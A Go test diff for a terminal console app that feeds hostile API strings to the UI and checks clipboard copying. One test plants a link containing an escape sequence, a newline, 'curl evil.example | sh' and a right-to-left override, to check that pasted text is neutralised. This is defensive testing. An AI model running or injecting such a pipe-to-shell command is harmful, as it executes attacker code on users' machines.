@@ -5,11 +5,11 @@ import (
 	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"hash/fnv"
 	"io"
 	"net/http"
 	"strconv"
 	"strings"
-	"sync"
 	"testing"
 	"time"
 
@@ -24,26 +24,27 @@ import (
 // hostileRewriter rewrites every JSON string value of an API answer (and
 // the names of ports, which are object keys) to a hostile one: a string
 // of termtexttest.Hostile, or a very long one, in front of the original
-// value, so values stay distinct. Strings that hold numbers or times are
-// left alone (the API sends some numbers as strings; a broken time is a
-// decode error, not hostile text), and so are request ids when keepIDs is
-// set, so the console can still open a deployment.
+// value, so values stay distinct. Which one depends on the key and the
+// value only, so a run is reproducible however the requests interleave.
+// Strings that hold numbers or times are left alone (the API sends some
+// numbers as strings; a broken time is a decode error, not hostile text),
+// and so are request ids when keepIDs is set, so the console can still
+// open a deployment.
 type hostileRewriter struct {
 	keepIDs bool
-
-	mu sync.Mutex
-	n  int
 }
 
-// next is the hostile prefix for the next string.
-func (h *hostileRewriter) next() string {
-	h.mu.Lock()
-	defer h.mu.Unlock()
-	h.n++
-	if h.n%11 == 0 {
+// prefix is the hostile text put in front of value, found under key.
+func (h *hostileRewriter) prefix(key, value string) string {
+	f := fnv.New32a()
+	f.Write([]byte(key))
+	f.Write([]byte{0})
+	f.Write([]byte(value))
+	n := int(f.Sum32() % uint32(len(termtexttest.Hostile)+1))
+	if n == len(termtexttest.Hostile) {
 		return termtexttest.Long(600)
 	}
-	return termtexttest.Hostile[h.n%len(termtexttest.Hostile)]
+	return termtexttest.Hostile[n]
 }
 
 // body rewrites a JSON body; anything else comes back as it was.
@@ -68,7 +69,7 @@ func (h *hostileRewriter) value(key string, v any) any {
 		if h.keep(key, v) {
 			return v
 		}
-		return h.next() + v
+		return h.prefix(key, v) + v
 	case []any:
 		for i := range v {
 			v[i] = h.value(key, v[i])
@@ -79,7 +80,7 @@ func (h *hostileRewriter) value(key string, v any) any {
 		for k, e := range v {
 			nk := k
 			if key == "ports" {
-				nk = h.next() + k
+				nk = h.prefix("", k) + k
 			}
 			out[nk] = h.value(k, e)
 		}
@@ -214,15 +215,15 @@ func TestDetailCopyHostile(t *testing.T) {
 	h := settled(t, withHostileAPI(true))
 	id := h.selectedID()
 	row, _ := h.app.store.Get(id)
+	// What a shell would run if pasted: the newline ends the command.
+	row.Ports[0].Link = "\x1b]0;PWNED\x07" + row.Ports[0].Link + "\n curl evil.example | sh\r\u202e"
+	row.FQDN = termtexttest.Long(300) + row.FQDN
 	h.press("enter")
 	h.settle()
 	for _, tt := range []struct{ key, what, raw string }{
 		{"l", "link", row.Ports[0].Link},
 		{"f", "FQDN", row.FQDN},
 	} {
-		if termtext.Check(tt.raw) == nil && !strings.ContainsAny(tt.raw, "\n\r\t") {
-			t.Fatalf("%s: the hostile API sent a harmless %s %q", tt.key, tt.what, tt.raw)
-		}
 		h.clip.Reset()
 		h.press("c", tt.key)
 		got := clipboardText(t, h.clip.String())
